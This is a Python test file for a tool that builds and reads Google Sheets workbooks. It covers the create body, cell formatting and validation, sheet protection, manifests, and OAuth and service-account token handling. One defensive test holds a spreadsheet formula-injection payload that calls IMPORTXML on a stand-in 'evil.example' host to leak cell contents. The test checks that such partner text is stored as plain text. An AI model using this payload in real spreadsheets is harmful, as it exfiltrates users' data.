"""The spreadsheets.create body (pure): valid against the discovery schema, the same copy as the .xlsx."""

from __future__ import annotations

import dataclasses
import datetime as dt
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import FIXED_NOW
from tests.google_standin.schema import validate
from toolkit import sources
from toolkit.backends.gsheets.auth import (
    SCOPES,
    SERVICE_ACCOUNT_SCOPES,
    GoogleAuth,
    authorize_google,
    load_credentials,
    load_token,
    save_token,
    token_path,
)
from toolkit.backends.gsheets.build import cell_value, date_serial, spreadsheet_body
from toolkit.backends.gsheets.manifest import Manifest, ManifestEntry, is_manifest, read_manifest
from toolkit.backends.gsheets.reader import cell_value as read_cell
from toolkit.backends.gsheets.reader import from_serial, parse_spreadsheet
from toolkit.backends.gsheets.sources import claims, spreadsheet_id
from toolkit.cover import cover_lines
from toolkit.errors import BackendError, ConfigError
from toolkit.initiative import Initiative
from toolkit.layout import workbook_layout
from toolkit.metadata import METADATA_TAB, identity, properties, records
from toolkit.read_copy import read_submission
from toolkit.spec import WorkbookSpec
from toolkit.style import DEFAULT_WIDTHS

ID = "1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abc"


def body_for(initiative: Initiative, people: tuple[str, ...] | None = None, **values: Any) -> dict[str, Any]:
    partner = initiative.partners[0]
    layout = workbook_layout(initiative.kit, "fr")
    spec = WorkbookSpec(
        layout=layout,
        info=identity(initiative, "fr", FIXED_NOW, partner.id, "partner"),
        cover=cover_lines(initiative, initiative.kit, partner, "fr"),
        people=initiative.people if people is None else people,
        values=values.get("values", {}),
    )
    return spreadsheet_body(
        spec, title="Copie", locale="fr_CA", time_zone="America/Toronto", editors=["coord@example.org"]
    )


def sheet(body: dict[str, Any], title: str) -> dict[str, Any]:
    return next(s for s in body["sheets"] if s["properties"]["title"] == title)


def cells(sheet_body: dict[str, Any]) -> dict[tuple[int, int], dict[str, Any]]:
    rows = sheet_body["data"][0]["rowData"]
    return {(r, c): cell for r, row in enumerate(rows, 1) for c, cell in enumerate(row["values"], 1) if cell}


def test_the_create_body_is_valid_against_the_discovery_schema(initiative: Initiative) -> None:
    validate("sheets", "sheets.spreadsheets.create", body_for(initiative))


def test_properties_tabs_and_developer_metadata(initiative: Initiative) -> None:
    body = body_for(initiative)
    assert body["properties"] == {"title": "Copie", "locale": "fr_CA", "timeZone": "America/Toronto"}
    titles = [(s["properties"]["title"], s["properties"].get("hidden", False)) for s in body["sheets"]]
    assert titles == [
        ("Lisez-moi", False),
        ("Canevas des progrès", False),
        ("Infrastructure de soutien", False),
        (METADATA_TAB, True),
    ]
    layout = workbook_layout(initiative.kit, "fr")
    info = identity(initiative, "fr", FIXED_NOW, initiative.partners[0].id, "partner")
    meta = {m["metadataKey"]: m["metadataValue"] for m in body["developerMetadata"]}
    assert meta == properties(info, layout)
    assert {json.dumps(m["location"]) for m in body["developerMetadata"]} == {'{"spreadsheet": true}'}
    assert {m["visibility"] for m in body["developerMetadata"]} == {"DOCUMENT"}
    rows = [
        [c["userEnteredValue"]["stringValue"] for c in r["values"] if c]
        for r in sheet(body, METADATA_TAB)["data"][0]["rowData"]
    ]
    assert rows == records(info, layout)


def test_headers_labels_inputs_are_formatted_and_widths_set(initiative: Initiative) -> None:
    body = body_for(initiative)
    tab = sheet(body, "Infrastructure de soutien")
    grid = cells(tab)
    header = grid[(4, 2)]["userEnteredFormat"]
    assert header["textFormat"]["bold"] and header["textFormat"]["foregroundColorStyle"]["rgbColor"] == {
        "red": 1.0,
        "green": 1.0,
        "blue": 1.0,
    }
    assert grid[(5, 1)]["userEnteredFormat"]["backgroundColorStyle"]["rgbColor"]["blue"] == pytest.approx(
        0xF7 / 255
    )
    assert grid[(5, 1)]["note"]
    assert grid[(5, 2)]["userEnteredFormat"]["wrapStrategy"] == "WRAP"
    widths = [c.width or DEFAULT_WIDTHS[c.type] for c in initiative.kit.worksheets[1].columns]
    assert [m["pixelSize"] for m in tab["data"][0]["columnMetadata"]] == [round(w * 7 + 5) for w in widths]
    assert tab["properties"]["gridProperties"]["frozenRowCount"] == 4


def test_validation_rules_follow_the_excel_copy(initiative: Initiative) -> None:
    body = body_for(initiative)
    who = cells(sheet(body, "Infrastructure de soutien"))[(5, 2)]["dataValidation"]
    assert who["strict"] is False and who["condition"]["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in who["condition"]["values"]] == list(initiative.people)
    date = cells(sheet(body, "Canevas des progrès"))[(5, 3)]
    assert date["dataValidation"]["condition"] == {"type": "DATE_IS_VALID"}
    assert date["dataValidation"]["strict"] is True and date["dataValidation"]["inputMessage"]
    assert date["userEnteredFormat"]["numberFormat"] == {"type": "DATE", "pattern": "yyyy-mm-dd"}


def test_a_long_people_list_goes_to_a_hidden_protected_lists_tab(initiative: Initiative) -> None:
    people = tuple(f"Personne numéro {i}, équipe {i % 3}" for i in range(40))
    body = body_for(initiative, people=people)
    validate("sheets", "sheets.spreadsheets.create", body)
    lists = sheet(body, "Listes")
    assert lists["properties"]["hidden"] and lists["protectedRanges"]
    rule = cells(sheet(body, "Infrastructure de soutien"))[(5, 2)]["dataValidation"]
    assert rule["condition"] == {
        "type": "ONE_OF_RANGE",
        "values": [{"userEnteredValue": "='Listes'!$A$1:$A$40"}],
    }
    assert [
        c["userEnteredValue"]["stringValue"] for c in (r["values"][0] for r in lists["data"][0]["rowData"])
    ] == list(people)


def test_whole_tabs_are_protected_except_the_input_cells(initiative: Initiative) -> None:
    body = body_for(initiative)
    for tab in body["sheets"]:
        (protected,) = tab["protectedRanges"]
        assert protected["range"] == {"sheetId": tab["properties"]["sheetId"]}
        assert protected["warningOnly"] is False and protected["editors"] == {
            "users": ["coord@example.org"],
            "domainUsersCanEdit": False,
        }
    canvas = sheet(body, "Canevas des progrès")
    open_cells = canvas["protectedRanges"][0]["unprotectedRanges"]
    layout = workbook_layout(initiative.kit, "fr").sheets[0]
    for _, _, row, col in layout.input_cells():
        assert any(
            r["startRowIndex"] < row <= r["endRowIndex"]
            and r["startColumnIndex"] < col <= r["endColumnIndex"]
            for r in open_cells
        ), (row, col)
    assert not any(r["startRowIndex"] <= 3 < r["endRowIndex"] for r in open_cells)  # header row stays locked


def test_partner_text_is_never_a_formula_and_dates_are_serials(initiative: Initiative) -> None:
    values = {
        ("progress_canvas", "overview", "activities"): '=IMPORTXML("https://evil.example/?"&A1,"//a")',
        ("progress_canvas", "overview", "date"): dt.date(2026, 11, 2),
    }
    grid = cells(sheet(body_for(initiative, values=values), "Canevas des progrès"))
    assert grid[(5, 2)]["userEnteredValue"] == {
        "stringValue": values[("progress_canvas", "overview", "activities")]
    }
    assert grid[(5, 3)]["userEnteredValue"] == {"numberValue": 46328}
    assert "formulaValue" not in json.dumps(body_for(initiative, values=values))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", {"stringValue": "=1+1"}),
        (True, {"boolValue": True}),
        (3, {"numberValue": 3}),
        (dt.date(1899, 12, 31), {"numberValue": 1}),
        ("", None),
        (None, None),
    ],
    ids=["formula-text", "bool", "int", "date", "empty", "none"],
)
def test_cell_value(value: object, expected: dict[str, Any] | None) -> None:
    assert cell_value(value) == expected


@pytest.mark.parametrize("day", [dt.date(1900, 3, 1), dt.date(2026, 11, 2), dt.date(2099, 12, 31)])
def test_date_serial_round_trip(day: dt.date) -> None:
    assert from_serial(date_serial(day)) == day


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ({"effectiveValue": {"stringValue": "x"}}, "x"),
        ({"effectiveValue": {"numberValue": 3.0}}, 3),
        ({"effectiveValue": {"numberValue": 2.5}}, 2.5),
        ({"effectiveValue": {"boolValue": True}}, True),
        (
            {"effectiveValue": {"numberValue": 46328}, "effectiveFormat": {"numberFormat": {"type": "DATE"}}},
            dt.date(2026, 11, 2),
        ),
        (
            {
                "effectiveValue": {"numberValue": 46328.5},
                "effectiveFormat": {"numberFormat": {"type": "DATE_TIME"}},
            },
            dt.datetime(2026, 11, 2, 12, 0),
        ),
        ({"effectiveValue": {"errorValue": {"type": "REF"}}, "formattedValue": "#REF!"}, "#REF!"),
        ({}, ""),
    ],
    ids=["text", "integer", "float", "bool", "date", "datetime", "error", "empty"],
)
def test_reader_cell_values_match_calamine(cell: dict[str, Any], expected: object) -> None:
    assert read_cell(cell) == expected


def test_a_read_answer_becomes_a_submission(initiative: Initiative) -> None:
    """The create body, echoed as a get answer (entered values as effective ones), pulls back cleanly."""
    values = {("progress_canvas", "overview", "activities"): "Portrait du quartier"}
    body = body_for(initiative, values=values)
    for tab in body["sheets"]:
        for row in tab["data"][0]["rowData"]:
            for cell in row["values"]:
                if "userEnteredValue" in cell:
                    cell["effectiveValue"] = cell["userEnteredValue"]
    body["developerMetadata"] = [
        {**m, "location": {"locationType": "SPREADSHEET"}} for m in body["developerMetadata"]
    ]
    raw = parse_spreadsheet("https://docs.google.com/spreadsheets/d/" + ID, body)
    assert raw.properties["toolkit.partner"] == initiative.partners[0].id
    assert [s.visible for s in raw.sheets] == [True, True, True, False]
    submission = read_submission(raw, initiative)
    assert submission.partner_id == initiative.partners[0].id
    cells_table = submission.cells.set_index(["worksheet", "row", "column"])
    assert cells_table.loc[("progress_canvas", "overview", "activities"), "value"] == "Portrait du quartier"
    assert {n.code for n in submission.notes} == {"modified_unknown"}  # no Drive time in a bare answer


# --- sources and manifest -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"https://docs.google.com/spreadsheets/d/{ID}/edit#gid=0", ID),
        (f"https://docs.google.com/spreadsheets/u/1/d/{ID}/edit?usp=sharing", ID),
        (str(Path(f"https://docs.google.com/spreadsheets/d/{ID}/edit")), ID),
        (ID, ID),
        (f"gsheets:{ID}", ID),
        ("returns/copy.xlsx", None),
        ("https://example.org/spreadsheets/d/" + ID, None),
        ("short", None),
    ],
    ids=["url", "url-user", "url-through-path", "bare", "scheme", "file", "other-host", "short"],
)
def test_spreadsheet_id(text: str, expected: str | None) -> None:
    assert spreadsheet_id(text) == expected
    assert claims(text) is (expected is not None)


def test_manifest_round_trip_and_expansion(tmp_path: Path) -> None:
    path = tmp_path / "m.json"
    manifest = read_manifest(path, "ini")
    manifest.record(
        ManifestEntry("p1", ID, "https://docs.google.com/spreadsheets/d/" + ID, "T", "2026-11-02")
    )
    manifest.advance("p1", "shared", shared_with=("a@example.org",))
    again = read_manifest(path, "ini")
    assert again.entries["p1"].status == "shared" and again.entries["p1"].shared_with == ("a@example.org",)
    assert is_manifest(path) and claims(str(path))
    expanded = sources.expand([str(path), "x.xlsx"])
    assert [(s, kind.name) for s, kind in expanded] == [
        ("https://docs.google.com/spreadsheets/d/" + ID, "google"),
        ("x.xlsx", "file"),
    ]
    with pytest.raises(ConfigError, match="not 'other'"):
        read_manifest(path, "other")
    assert isinstance(manifest, Manifest)


# --- auth -----------------------------------------------------------------------------------------


def user_credentials() -> Any:
    from google.oauth2.credentials import Credentials

    return Credentials(
        token="ya29.ACCESS-SECRET",
        refresh_token="1//REFRESH-SECRET",
        token_uri="https://oauth2.googleapis.com/token",
        client_id="cid.apps.googleusercontent.com",
        client_secret="CLIENT-SECRET",
        scopes=list(SCOPES),
    )


def test_token_path_honours_xdg_config_home(tmp_path: Path) -> None:
    assert token_path({"XDG_CONFIG_HOME": str(tmp_path)}) == tmp_path / "toolkit" / "google-token.json"
    assert token_path({"HOME": str(tmp_path)}) == tmp_path / ".config" / "toolkit" / "google-token.json"


def test_token_is_written_0600_atomically_and_reloads(tmp_path: Path) -> None:
    path = save_token(user_credentials(), tmp_path / "cfg" / "google-token.json")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(path.parent).st_mode) == 0o700
    assert [p.name for p in path.parent.iterdir()] == ["google-token.json"]
    loaded = load_token(path)
    assert loaded is not None and loaded.refresh_token == "1//REFRESH-SECRET"  # type: ignore[attr-defined]


def test_auth_flow_caches_the_token_and_never_shows_it(
    tmp_path: Path,
    initiative: Initiative,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    client_file = tmp_path / "client.json"
    client_file.write_text(
        json.dumps(
            {
                "installed": {
                    "client_id": "cid.apps.googleusercontent.com",
                    "client_secret": "CLIENT-SECRET",
                    "auth_uri": "https://accounts.google.com/o/oauth2/auth",
                    "token_uri": "https://oauth2.googleapis.com/token",
                    "redirect_uris": ["http://localhost"],
                }
            }
        )
    )
    settings = dataclasses.replace(initiative.google, credentials=client_file)
    env = {"XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    caplog.set_level("DEBUG")
    result = authorize_google(settings, environ=env, runner=lambda flow: user_credentials())
    assert result.source == tmp_path / "xdg" / "toolkit" / "google-token.json"
    again = load_credentials(settings, environ=env)
    shown = repr(result) + str(result) + repr(again) + caplog.text + "".join(capsys.readouterr())
    for secret in ("ACCESS-SECRET", "REFRESH-SECRET", "CLIENT-SECRET"):
        assert secret not in shown
    assert isinstance(again, GoogleAuth) and again.kind == "oauth"


def test_without_a_token_the_run_says_to_sign_in(tmp_path: Path, initiative: Initiative) -> None:
    with pytest.raises(BackendError, match="toolkit auth google"):
        load_credentials(initiative.google, environ={"XDG_CONFIG_HOME": str(tmp_path)})


def test_service_account_key_from_the_environment(tmp_path: Path, initiative: Initiative) -> None:
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    pem = (
        rsa.generate_private_key(public_exponent=65537, key_size=2048)
        .private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        .decode()
    )
    key = tmp_path / "sa.json"
    key.write_text(
        json.dumps(
            {
                "type": "service_account",
                "project_id": "p",
                "private_key_id": "k",
                "private_key": pem,
                "client_email": "toolkit@p.iam.gserviceaccount.com",
                "client_id": "1",
                "token_uri": "https://oauth2.googleapis.com/token",
            }
        )
    )
    settings = dataclasses.replace(initiative.google, auth="service_account", credentials=None)
    result = load_credentials(settings, environ={"GOOGLE_APPLICATION_CREDENTIALS": str(key)})
    assert result.kind == "service_account"
    assert tuple(result.credentials.scopes) == SERVICE_ACCOUNT_SCOPES  # type: ignore[attr-defined]
    assert "PRIVATE" not in repr(result)
    with pytest.raises(ConfigError, match="GOOGLE_APPLICATION_CREDENTIALS"):
        load_credentials(settings, environ={})
